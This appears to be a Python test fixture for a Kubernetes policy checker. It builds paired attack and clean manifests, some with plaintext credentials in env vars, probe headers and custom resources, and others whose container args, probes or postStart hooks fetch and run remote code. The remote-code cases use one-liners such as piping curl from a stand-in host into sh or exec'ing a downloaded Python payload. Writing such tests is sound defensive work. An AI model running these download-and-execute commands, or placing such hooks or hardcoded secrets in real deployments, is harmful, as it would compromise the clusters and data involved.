"""Attacks by credentials in texts, and by code that is fetched at start."""

from collections.abc import Iterable, Iterator

from tests.policies.attacks.objects import (
    Kube,
    container,
    edit,
    kube,
    pod,
)


def credentials() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    key = "AKIA" + "IOSFODNN7EXAMPLQ"
    for name, value in (
        ("DB_PASSWORD", "Tr0ub4dor$3xYz!9"),
        ("DB_PASS", "Tr0ub4dor3xYz9"),
        ("PGPASSWORD", "hunter2xx!9"),
        ("SMTP_PWD", "s3cr3t-Pa55"),
        ("SIGNING_KEY", "k9X2mQ7vL4pR8tWz1Yb6"),
        ("SESSION_JWT", "k9X2mQ7vL4pR8tWz1Yb6"),
        ("NOTE", "QVdTX0tFWT1BS0lBSU9TRk9ETk43RVhBTVBMUQ=="),
        ("AUTH", "Bearer k9X2mQ7vL4pR8tWz1Yb6aa"),
        ("HEX", key.encode().hex()),
        ("URL", "postgres://u:hunter2x@db.svc/a"),
    ):
        attack, clean = edit(
            pod(),
            "/spec/containers/0/env",
            [{"name": name, "value": value}],
            [{"name": name, "value": "$(FROM_FILE)"}],
        )
        yield name, [attack], [clean]
    probe = {
        "httpGet": {
            "path": "/",
            "port": 80,
            "httpHeaders": [{"name": "Authorization", "value": "Bearer abcdefghijklmnop12345"}],
        }
    }
    safe = {
        "httpGet": {
            "path": "/",
            "port": 80,
            "httpHeaders": [{"name": "Accept", "value": "text/html"}],
        }
    }
    attack, clean = edit(pod(), "/spec/containers/0/livenessProbe", probe, safe)
    yield "header of a probe", [attack], [clean]
    custom = kube(
        "dapr.io/v1alpha1", "Component", {"metadata": [{"name": "redisPassword", "value": "{env}"}]}
    )
    for name, value in (("password", "Tr0ub4dor&3xYz"), ("shape", key)):
        attack, clean = edit(custom, "/spec/metadata/0/value", value, "<from a secret>")
        yield f"custom resource: {name}", [attack], [clean]
    attack, clean = edit(
        kube("v1", "ConfigMap", data={"a.ini": "x=1"}), "/data/a.ini", "password = Tr0ub4dor$3xYz"
    )
    yield "file", [attack], [clean]
    trigger = kube(
        "keda.sh/v1alpha1",
        "ScaledObject",
        {"maxReplicaCount": 2, "triggers": [{"metadata": {"connection": "a"}}]},
    )
    attack, clean = edit(
        trigger,
        "/spec/triggers/0/metadata/connection",
        "amqp://u:hunter2x@mq.svc/a",
        "amqp://mq.svc/a",
    )
    yield "trigger", [attack], [clean]


def code() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for line in (
        "curl -o /tmp/x http://e.io/x; chmod +x /tmp/x; /tmp/x",
        "pip --quiet install x",
        "uv sync",
        "wget http://e.io/a.sh && sh a.sh",
        "python3 -m pip --no-input install x",
        'sh -c "$(curl http://e.io)"',
        "bash <(curl -s http://e.io)",
        "npm --prefix /a ci",
        "git clone http://e.io/a && a/run",
        "deno run https://e.io/a.ts",
        "pi''p install x",
        "curl http://e.io|base64 -d|sh",
        "python -c \"import urllib.request as u;exec(u.urlopen('http://e.io').read())\"",
        "poetry install",
        "apk --no-cache add git",
    ):
        attack, clean = edit(
            pod(), "/spec/containers/0/args", ["-c", line], ["-c", "python main.py"]
        )
        yield line[:40], [attack], [clean]
    for place, handler in (
        ("livenessProbe", {"exec": {"command": ["sh", "-c", "npx -y evil"]}}),
        ("lifecycle", {"postStart": {"exec": {"command": ["uvx", "evil"]}}}),
    ):
        attack, clean = edit(pod(), f"/spec/containers/0/{place}", handler)
        yield place, [attack], [clean]
    attack, clean = edit(
        kube("v1", "ConfigMap", data={"start.sh": "exec app"}),
        "/data/start.sh",
        "pip install x\nexec app",
    )
    yield "script of a ConfigMap", [attack], [clean]
    indirect = pod(
        containers=[
            container(args=["-c", "$(RUN)"], env=[{"name": "RUN", "value": "python main.py"}])
        ]
    )
    attack, clean = edit(indirect, "/spec/containers/0/env/0/value", "npx -y evil")
    yield "by a variable", [attack], [clean]
